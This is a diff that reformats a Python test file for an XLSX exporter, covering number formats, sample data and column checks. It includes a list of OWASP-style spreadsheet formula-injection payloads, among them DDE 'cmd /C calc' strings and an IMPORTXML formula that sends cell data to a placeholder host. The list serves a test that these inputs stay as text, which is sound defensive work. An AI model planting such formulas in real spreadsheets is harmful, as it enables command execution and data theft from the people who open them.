@@ -21,14 +21,30 @@ from analysis.export.xlsx_writer import (
     write_table,
 )
 
-FORMATS = {ColumnKind.INT: "#,##0", ColumnKind.FLOAT: "#,##0.00", ColumnKind.DATE: "yyyy-mm-dd",
-           ColumnKind.DATETIME: "yyyy-mm-dd hh:mm"}  # fmt: skip
+FORMATS = {
+    ColumnKind.INT: "#,##0",
+    ColumnKind.FLOAT: "#,##0.00",
+    ColumnKind.DATE: "yyyy-mm-dd",
+    ColumnKind.DATETIME: "yyyy-mm-dd hh:mm",
+}
 OWASP = [
-    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://x","y")',
-    "\t=1+1", "\r=1+1", '=DDE("cmd";"/C calc";"!A0")A0', "=1+2';=1+2", "'=1+1",
-    "+cmd|' /C notepad'!'A1'", "@SUM(A1:A2)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")', "=WEBSERVICE(\"http://x\")",
-]  # fmt: skip
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    '=HYPERLINK("http://x","y")',
+    "\t=1+1",
+    "\r=1+1",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "=1+2';=1+2",
+    "'=1+1",
+    "+cmd|' /C notepad'!'A1'",
+    "@SUM(A1:A2)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
+    '=WEBSERVICE("http://x")',
+]
 
 
 def columns_for(frame: pd.DataFrame) -> list[Column]:
@@ -40,8 +56,9 @@ def write(frame: pd.DataFrame, path: Path, chunk: int = 20_000, **kwargs: object
     wb = Workbook(write_only=True)
     styles = StyleBook(wb)
     columns = columns_for(frame)
-    parts = write_table(wb, "Dane", chunks_of(frame, chunk), columns, TableText("Tabela"), styles,
-                        **kwargs)  # type: ignore[arg-type]  # fmt: skip
+    parts = write_table(
+        wb, "Dane", chunks_of(frame, chunk), columns, TableText("Tabela"), styles, **kwargs
+    )  # type: ignore[arg-type]
     for i, part in enumerate(parts):
         add_excel_table(part, columns, f"T{i}")
     wb.save(path)
@@ -49,15 +66,17 @@ def write(frame: pd.DataFrame, path: Path, chunk: int = 20_000, **kwargs: object
 
 
 def sample() -> pd.DataFrame:
-    return pd.DataFrame({
-        "n": np.array([1, 2_000_000, -3], dtype=np.int64),
-        "x": [0.1, np.nan, 1e-7],
-        "day": pd.to_datetime(["2026-01-31", None, "1999-12-31"]),
-        "when": pd.to_datetime(["2026-01-31 23:30", "2026-07-01 10:00", None], utc=True),
-        "ok": [True, False, True],
-        "opis": ["Dziura, ul. Łąkowa <5> & co", None, "  spacje  "],
-        "cnt": pd.array([1, None, 3], dtype="Int64"),
-    })  # fmt: skip
+    return pd.DataFrame(
+        {
+            "n": np.array([1, 2_000_000, -3], dtype=np.int64),
+            "x": [0.1, np.nan, 1e-7],
+            "day": pd.to_datetime(["2026-01-31", None, "1999-12-31"]),
+            "when": pd.to_datetime(["2026-01-31 23:30", "2026-07-01 10:00", None], utc=True),
+            "ok": [True, False, True],
+            "opis": ["Dziura, ul. Łąkowa <5> & co", None, "  spacje  "],
+            "cnt": pd.array([1, None, 3], dtype="Int64"),
+        }
+    )
 
 
 def test_values_types_and_formats_come_back(tmp_path: Path) -> None:
@@ -79,17 +98,34 @@ def test_values_types_and_formats_come_back(tmp_path: Path) -> None:
     assert rows[2][5] == "  spacje  "
     assert [r[6] for r in rows] == [1, None, 3]
     assert [ws.cell(3, i).number_format for i in range(1, 5)] == [
-        "#,##0", "#,##0.00", "yyyy-mm-dd", "yyyy-mm-dd hh:mm"]
+        "#,##0",
+        "#,##0.00",
+        "yyyy-mm-dd",
+        "yyyy-mm-dd hh:mm",
+    ]
     assert ws.tables["T0"].ref == "A2:G5"
-    assert [c.name for c in ws.tables["T0"].tableColumns] == ["N", "X", "DAY", "WHEN", "OK",
-                                                             "OPIS", "CNT"]  # fmt: skip
+    assert [c.name for c in ws.tables["T0"].tableColumns] == [
+        "N",
+        "X",
+        "DAY",
+        "WHEN",
+        "OK",
+        "OPIS",
+        "CNT",
+    ]
 
 
 def test_column_kinds() -> None:
     frame = sample()
     assert [column_kind(frame[c]) for c in frame.columns] == [
-        ColumnKind.INT, ColumnKind.FLOAT, ColumnKind.DATE, ColumnKind.DATETIME, ColumnKind.BOOL,
-        ColumnKind.TEXT, ColumnKind.INT]  # fmt: skip
+        ColumnKind.INT,
+        ColumnKind.FLOAT,
+        ColumnKind.DATE,
+        ColumnKind.DATETIME,
+        ColumnKind.BOOL,
+        ColumnKind.TEXT,
+        ColumnKind.INT,
+    ]
 
 
 def test_formula_payloads_stay_text(tmp_path: Path) -> None:
